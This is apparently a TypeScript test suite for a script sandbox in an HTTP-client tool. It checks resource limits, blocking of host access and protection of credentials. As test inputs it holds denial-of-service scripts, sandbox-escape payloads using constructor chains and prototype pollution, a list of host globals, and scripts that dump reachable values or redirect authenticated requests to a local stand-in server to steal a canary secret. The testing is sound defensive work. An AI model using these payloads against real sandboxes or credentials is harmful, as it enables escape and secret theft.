/**
 * What a script of a cloned workspace tries: to run for ever, to fill memory, to leave the sandbox, to read a credential.
 * Real sandbox, real sockets; the limits are made small where only the reaching of them counts.
 */
import type { IncomingMessage } from 'node:http';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { Secret } from '../../src/credentials/secret.ts';
import { recordLimits } from '../../src/scripting/recorder.ts';
import { Sandbox } from '../../src/scripting/sandbox.ts';
import { defaultLimits } from '../../src/scripting/types.ts';
import { createEngineFixture, fixtureRoot, type EngineFixture, type FixtureOptions } from '../support/engine.ts';
import { serveHttp, type Listening } from '../support/http-servers.ts';
import { createScriptFixture, sampleJob } from '../support/scripts.ts';

const sandbox = createScriptFixture({ timeMs: 800, memoryBytes: 16 * 1024 * 1024 });
/** For what ends by itself, however busy the machine is. */
const patient = createScriptFixture({ timeMs: 20_000, memoryBytes: 16 * 1024 * 1024 });
afterAll(async () => {
  await sandbox.dispose();
  await patient.dispose();
});

/** A script that has to end with this kind of fault, and leave a sandbox that still works. */
function ends(what: string, kinds: readonly string[], code: string): void {
  it(`W08 ends ${what}`, async () => {
    const report = await sandbox.run(code);
    expect(kinds).toContain(report.fault?.kind);
    const next = await sandbox.run('client.log("alive")');
    expect(next).toEqual({ events: [{ kind: 'log', text: 'alive' }] });
  });
}

describe('W08 limits', () => {
  ends('an endless loop', ['time'], 'while (true) {}');
  ends(
    'an endless loop in a test, whatever catches',
    ['time'],
    'client.test("t", () => { for (;;) { try { for (;;) {} } catch (e) {} } })',
  );
  ends('an endless loop in finally', ['time'], 'try { for (;;) {} } finally { for (;;) {} }');
  ends('a pattern that never ends', ['time'], '/^(a+)+$/.test("a".repeat(40) + "b")');
  ends('promises without end', ['time', 'memory', 'error'], 'const f = () => Promise.resolve().then(f); f()');
  ends('a getter without end on what is thrown', ['time', 'error'], 'throw { get message() { for (;;) {} } }');
  ends(
    'a proxy as what is thrown',
    ['time', 'error'],
    'throw new Proxy({}, { get() { for (;;) {} }, has() { for (;;) {} } })',
  );
  ends('a sort with an endless comparison', ['time'], '[3, 1, 2].sort(() => { for (;;) {} })');
  ends(
    'a path that multiplies what it is given',
    ['memory', 'time'],
    'const o = { a: Array(90).fill(Array(90).fill([[[[1]]]])) }; jsonPath(o, "$..*..*..*..*..*..*..*..*")',
  );
  ends('a path into itself', ['error'], 'const o = {}; o.o = o; jsonPath(o, "$..x")');
  ends('a loop of host calls', ['time'], 'for (;;) crypto.sha256().updateWithText("x").digest()');
  ends('a string that doubles', ['memory', 'error', 'time'], 'let s = "xxxxxxxxxxxxxxxx"; for (;;) s += s');
  ends('an array that grows', ['memory', 'time'], 'const a = []; for (;;) a.push("x".repeat(1000) + a.length)');
  ends('nested arrays', ['memory', 'time'], 'let a = []; for (;;) a = [a, [a]]');
  ends('typed arrays', ['memory', 'error', 'time'], 'const a = []; for (;;) a.push(new Uint8Array(1 << 20))');
  ends('a huge typed array', ['memory', 'error'], 'new Uint8Array(2 ** 31)');
  ends(
    'a map that grows',
    ['memory', 'time'],
    'const m = new Map(); for (let i = 0; ; i++) m.set({ i }, "y".repeat(200) + i)',
  );
  ends('recursion', ['error'], '(function f() { f(); })()');
  ends(
    'recursion through sort and toString',
    ['error', 'time'],
    'const o = { toString() { return [o, o].sort().join() } }; String(o)',
  );
  ends(
    'recursion in JSON',
    ['error', 'memory', 'time'],
    'let o = {}; for (let i = 0; i < 100000; i++) o = { o }; JSON.stringify(o)',
  );
  ends('deep text for JSON', ['error', 'memory'], 'JSON.parse("[".repeat(1000000))');
  ends('a deep program', ['error', 'memory'], 'eval("(".repeat(1000000))');
  ends('a deep pattern', ['error', 'memory', 'time'], 'new RegExp("(".repeat(100000) + ")".repeat(100000))');

  for (const code of [
    'const s = "\\u4e00".repeat(9e6); crypto.sha256().updateWithText(s).digest()',
    'const s = "\\u4e00".repeat(9e6); client.log(s)',
    'Window.btoa("x".repeat(9e6))',
    'String.prototype.slice = () => "x".repeat(2e7); throw new Error("x")',
    'JSON.stringify = () => "x".repeat(2e7); throw new Error("x")',
    'JSON.stringify = () => 5; throw new Error("x")',
  ]) {
    it(`W08 no text of any size leaves the engine: ${code}`, async () => {
      const own = createScriptFixture();
      expect((await own.run(code)).fault?.kind).toMatch(/^(error|memory)$/);
      expect((await own.run('client.log("alive")')).events).toHaveLength(1);
      await own.dispose();
    });
  }

  it('W08 a cancelled script ends', async () => {
    const own = new Sandbox({ ...defaultLimits, timeMs: 60_000 });
    const abort = new AbortController();
    const running = own.run({ ...sampleJob, code: 'for (;;) {}' }, abort.signal);
    setTimeout(() => abort.abort(new Error('cancelled by the person')), 300);
    await expect(running).rejects.toThrow('cancelled by the person');
    expect(await own.run({ ...sampleJob, code: '1' }, new AbortController().signal)).toEqual({ events: [] });
    await own.dispose();
  });

  it('W08 output is capped', async () => {
    const report = await patient.run('const line = "x".repeat(100000); for (let i = 0; i < 500; i++) client.log(line)');
    const logged = report.events.reduce((sum, event) => sum + (event.kind === 'log' ? event.text.length : 0), 0);
    expect(logged).toBeLessThanOrEqual(recordLimits.logCharacters + 100);
    expect(report.events.at(-1)).toMatchObject({ text: expect.stringContaining('left out') as string });
  });

  it('W08 events are capped', async () => {
    const report = await patient.run('for (let i = 0; i < 5000; i++) client.test("t" + i, () => {})');
    expect(report.events.length).toBeLessThanOrEqual(recordLimits.events + 1);
  });

  it('W08 a value that is kept is capped', async () => {
    const report = await patient.run('client.global.set("big", "x".repeat(2 * 1024 * 1024))');
    expect(report.events).toEqual([]);
    expect(report.fault?.message).toContain('1 MB');
  });
});

describe('W09 the way out', () => {
  const nothing = [
    'process',
    'require',
    'module',
    'fetch',
    'XMLHttpRequest',
    'WebSocket',
    'setTimeout',
    'setInterval',
    'Worker',
    'Buffer',
    'global',
    'self',
    'WebAssembly',
    'std',
    'os',
    'print',
    'load',
    'scriptArgs',
    'host',
    'kit',
    'importScripts',
    'navigator',
  ];
  it('W09 nothing of the host has a name', async () => {
    const report = await sandbox.run(
      `for (const name of ${JSON.stringify(nothing)}) if (typeof globalThis[name] !== "undefined") client.log(name)`,
    );
    expect(report).toEqual({ events: [] });
  });

  it('W09 the global scope holds the language and the surfaces alone', async () => {
    const report = await sandbox.run(
      'client.log(JSON.stringify(Reflect.ownKeys(globalThis).map(String).filter((k) => !/^[A-Z]/.test(k)).sort()))',
    );
    const [event] = report.events;
    expect(event?.kind === 'log' && JSON.parse(event.text)).toEqual([
      '$isoTimestamp',
      '$random',
      '$randomInt',
      '$timestamp',
      '$uuid',
      'atob',
      'btoa',
      'client',
      'console',
      'crypto',
      'decodeURI',
      'decodeURIComponent',
      'encodeURI',
      'encodeURIComponent',
      'escape',
      'eval',
      'globalThis',
      'isFinite',
      'isNaN',
      'jsonPath',
      'parseFloat',
      'parseInt',
      'performance',
      'queueMicrotask',
      'request',
      'response',
      'undefined',
      'unescape',
      'window',
    ]);
  });

  for (const code of [
    'Function("return typeof process")()',
    'client.test.constructor("return typeof process")()',
    '(async () => {}).constructor("return 1") && Function("return typeof process")()',
    '(function* () {}).constructor("yield typeof process")().next().value',
    'new client.log.constructor("return typeof process")()',
    '(0, eval)("typeof process")',
    'client.global.get.constructor.constructor("return typeof process")()',
    'request.url.constructor.constructor("return typeof process")()',
    'Object.getPrototypeOf(client.log).constructor("return typeof require")()',
  ]) {
    it(`W09 ${code} stays inside`, async () => {
      const report = await sandbox.run(
        `const found = ${code}; client.log(typeof found === "object" ? "undefined" : found)`,
      );
      expect(report.events).toEqual([{ kind: 'log', text: 'undefined' }]);
    });
  }

  it('W09 import finds no module', async () => {
    for (const name of ['node:fs', 'fs', './x.js', 'https://example.com/x.js', 'data:text/javascript,1']) {
      const report = await sandbox.run(`client.test("t", () => import(${JSON.stringify(name)}))`);
      expect(report.events).not.toContainEqual(expect.objectContaining({ passed: true }));
    }
  });

  it('W09 prototypes changed inside change nothing outside', async () => {
    await sandbox.run(
      `for (const P of [Object, Array, String, Function, Promise, Error, Map]) { P.prototype.polluted = 1; P.prototype.toJSON = () => "x" }
       JSON.stringify = () => '{"kind":"set","scope":"global","name":"__proto__","json":"{}"}';
       client.global.set("__proto__", { polluted: 1 }); client.global.set("constructor", 1);`,
    );
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
    expect(([] as { polluted?: unknown }).polluted).toBeUndefined();
    expect(await sandbox.run('client.log(typeof [].polluted)')).toEqual({
      events: [{ kind: 'log', text: 'undefined' }],
    });
  });

  it('W09 forged events are data of a known shape, or nothing', async () => {
    const report = await sandbox.run(
      `const real = JSON.stringify;
       const forged = ['null', '5', '[]', '{"kind":"fault"}', '{"kind":"set","scope":"env","name":1}', '{"kind":"test","name":{},"passed":"yes","place":{"line":"x"}}'];
       let at = 0;
       Object.prototype.toJSON = function () { return at < forged.length ? JSON.parse(forged[at++]) : undefined };
       for (let i = 0; i < 6; i++) { try { client.log("x") } catch (e) {} }`,
    );
    for (const event of report.events) {
      expect(['test', 'log', 'set', 'clear', 'clearAll']).toContain(event.kind);
      if (event.kind === 'test') expect(event).toMatchObject({ passed: false });
    }
  });

  it('W09 stack frames give no way to the host', async () => {
    const report = await sandbox.run(`
      const seen = [];
      Error.prepareStackTrace = (error, frames) => { for (const frame of frames) { try { seen.push(typeof frame.getFunction()) } catch (e) {} try { seen.push(typeof frame.getThis()) } catch (e) {} } return "" };
      try { client.assert(false) } catch (e) { String(e.stack) }
      try { crypto.hmac.sha256().digest() } catch (e) { String(e.stack) }
      client.test("x", () => {});
      client.log(typeof process, typeof require);`);
    expect(report.events.at(-1)).toEqual({ kind: 'log', text: 'undefined undefined' });
  });
});

describe('W10 credentials', () => {
  const canary = 'canary-51c7e0d9a8b34f26';
  let server: Listening;
  const seen: IncomingMessage[] = [];
  const fixtures: EngineFixture[] = [];
  let evilUrl = '';

  beforeAll(async () => {
    server = await serveHttp((request, response) => {
      seen.push(request);
      request.resume();
      const json = { ok: true, host: evilUrl };
      response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(json));
    });
  });
  afterAll(() => server.close());
  afterEach(async () => {
    seen.length = 0;
    for (const fixture of fixtures.splice(0)) await fixture.dispose();
  });

  async function engine(options: FixtureOptions = {}): Promise<EngineFixture> {
    const fixture = createEngineFixture(options);
    fixtures.push(fixture);
    const orders = { scheme: 'apiKey', in: 'header', name: 'X-API-Key', origins: [server.url] };
    const query = { scheme: 'apiKey', in: 'query', name: 'api_key', origins: [server.url] };
    const bearer = { scheme: 'bearer', origins: [server.url] };
    fixture.vault.setWorkspaceDefinitions(fixtureRoot, {
      file: `${fixtureRoot}/countersign.json`,
      text: JSON.stringify({ credentials: { orders, query, bearer } }),
    });
    for (const name of ['orders', 'query', 'bearer']) {
      const named = await fixture.vault.find(name, fixtureRoot);
      if (named) await fixture.vault.setSecret(named, '', new Secret(canary, `${name} secret`));
    }
    return fixture;
  }

  /** Everything a script can reach, character by character, so that no redactor helps. */
  const dump = `
    const all = [];
    const seen = new Set();
    const walk = (value, depth) => {
      if (depth > 6 || seen.has(value)) return;
      if (typeof value === "string") return all.push(value);
      if (value === null || (typeof value !== "object" && typeof value !== "function")) return;
      seen.add(value);
      for (const key of Reflect.ownKeys(value)) { try { walk(value[key], depth + 1) } catch (e) {} }
      if (typeof value === "function" && value.length === 0) { try { walk(value.call(undefined), depth + 1) } catch (e) {} }
    };
    const exit = client.exit; delete client.exit;
    walk(globalThis, 0);
    for (const text of all) if (text.length < 400) client.log(text.split("").join("_"));
  `;
  const spread = canary.split('').join('_');
  const encoded = [Buffer.from(`Bearer ${canary}`), Buffer.from(canary)].map((bytes) =>
    bytes.toString('base64').split('').join('_'),
  );

  for (const name of ['orders', 'query', 'bearer']) {
    it(`W10 a script finds no value of ${name} in anything it can reach`, async () => {
      const fixture = await engine();
      const result = await fixture.send(
        `### one\n< {%${dump}%}\n# @auth ${name}\nGET ${server.url}/a\nX-Copy: {{$auth.token("${name}")}}\n\n> {%${dump}%}\n`,
      );
      expect(result.error).toBeUndefined();
      expect(seen).toHaveLength(1);
      expect(`${seen[0]?.url ?? ''} ${seen[0]?.rawHeaders.join(' ') ?? ''}`).toContain(canary);
      const log = result.log?.join('\n') ?? '';
      expect(log).toContain('G_E_T');
      expect(log).not.toContain(spread);
      for (const form of encoded) expect(log).not.toContain(form);
    });
  }

  it('W10 a secret of the environment shows dots, whatever is done with it', async () => {
    const files = {
      [`${fixtureRoot}/http-client.env.json`]: '{"dev": {"a": "1"}}',
      [`${fixtureRoot}/http-client.private.env.json`]: `{"dev": {"apiSecret": "${canary}"}}`,
    };
    const fixture = await engine({ files });
    const text = `### one\n< {%
      const secret = request.environment.get("apiSecret");
      const forms = [String(secret), JSON.stringify({ secret }), secret + "", Window.btoa(secret), Object.entries(secret).join(), secret.toString.toString()];
      for (const form of forms) client.log(String(form).split("").join("_"));
      request.variables.set("leak", secret);
    %}\nGET ${server.url}/a\nX-Leak: {{leak}}\n`;
    const result = await fixture.send(text, { environments: ['dev'] });
    expect(result.log?.join('\n') ?? '').not.toContain(spread);
    for (const form of encoded) expect(result.log?.join('\n') ?? '').not.toContain(form);
    expect(seen.map(({ rawHeaders }) => rawHeaders.join()).join()).not.toContain(canary);
  });

  it('W10 a script cannot send a credential elsewhere by changing where a request goes', async () => {
    const evil: IncomingMessage[] = [];
    const other = await serveHttp((request, response) => {
      evil.push(request);
      response.end();
    });
    const fixture = await engine();
    const result = await fixture.send(
      `@host = ${server.url}\n### one\n< {% request.variables.set("host", "${other.url}"); client.global.set("host", "${other.url}") %}\n# @auth orders\nGET {{host}}/a\n`,
    );
    expect(result.error?.code).toBe('CS-BIND-ORIGIN');
    expect(evil).toHaveLength(0);
    await other.close();
  });

  for (const [how, text] of [
    ['a global', (evil: string) => `### one\nGET ${server.url}/a\n\n> {% client.global.set("api", "${evil}") %}\n\n`],
    ['a variable of the request', () => ''],
    ['a response that the file refers to', () => `### one\n# @name one\nGET ${server.url}/host\n\n`],
  ] as const) {
    it(`W10 a definition with variables is not moved by ${how}`, async () => {
      const evil: IncomingMessage[] = [];
      const other = await serveHttp((request, response) => {
        evil.push(request);
        response.end();
      });
      evilUrl = other.url;
      const files = { [`${fixtureRoot}/http-client.env.json`]: JSON.stringify({ dev: { api: server.url } }) };
      const fixture = createEngineFixture({ files, interactive: false });
      fixtures.push(fixture);
      fixture.vault.setWorkspaceDefinitions(fixtureRoot, {
        file: `${fixtureRoot}/countersign.json`,
        text: JSON.stringify({ credentials: { moved: { scheme: 'bearer', origins: ['{{api}}'] } } }),
      });
      fixture.vault.provideSecret('moved', new Secret(canary, 'moved secret'));
      fixture.vault.trustForProcess('moved');
      const before = how.startsWith('a variable') ? `< {% request.variables.set("api", "${other.url}") %}\n` : '';
      const own = how.startsWith('a response') ? '@api = {{one.response.body.$.host}}\n' : '';
      const file = `${own}${text(other.url)}### two\n${before}# @name two\n# @auth moved\nGET ${other.url}/b\n`;
      if (!how.startsWith('a variable')) await fixture.send(file, { environments: ['dev'] });
      const result = await fixture.send(file, { name: 'two', environments: ['dev'] });
      expect(result.error?.code).toMatch(/^CS-(BIND-ORIGIN|VAR-NOT-SENT)$/);
      expect(evil).toHaveLength(0);
      await other.close();
    });
  }

  it('W10 what a script writes passes the redactor, and its control characters show', async () => {
    const fixture = await engine();
    fixture.redactor.register(new Secret(canary, 'orders secret'));
    const result = await fixture.send(
      `### one\nGET ${server.url}/a\n\n> {% client.log("${canary}\\u001b[31m"); client.test("${canary}", () => client.assert(false, "${canary}\\u202e")); throw new Error("${canary}") %}\n`,
    );
    const shown = JSON.stringify([result.log, result.tests, result.error?.message]);
    expect(shown).not.toContain(canary);
    expect(shown).not.toMatch(/\\u001b|\u202e/);
    expect(result.tests).toMatchObject([{ passed: false }]);
  });

  it('W10 a script file outside the workspace is not run, and nobody is asked', async () => {
    const fixture = await engine({
      files: { '/home/me/x.js': 'client.log("ran")' },
      chooses: (_, choices) => choices[1],
    });
    for (const path of ['/home/me/x.js', '../home/me/x.js', '//server/share/x.js']) {
      const result = await fixture.send(`### one\nGET ${server.url}/a\n\n> ${path}\n`);
      expect(result.log).toBeUndefined();
      expect(result.error?.code).toMatch(/^CS-FILE-(OUTSIDE|MISSING)$/);
    }
    expect(fixture.questions).toEqual([]);
  });
});
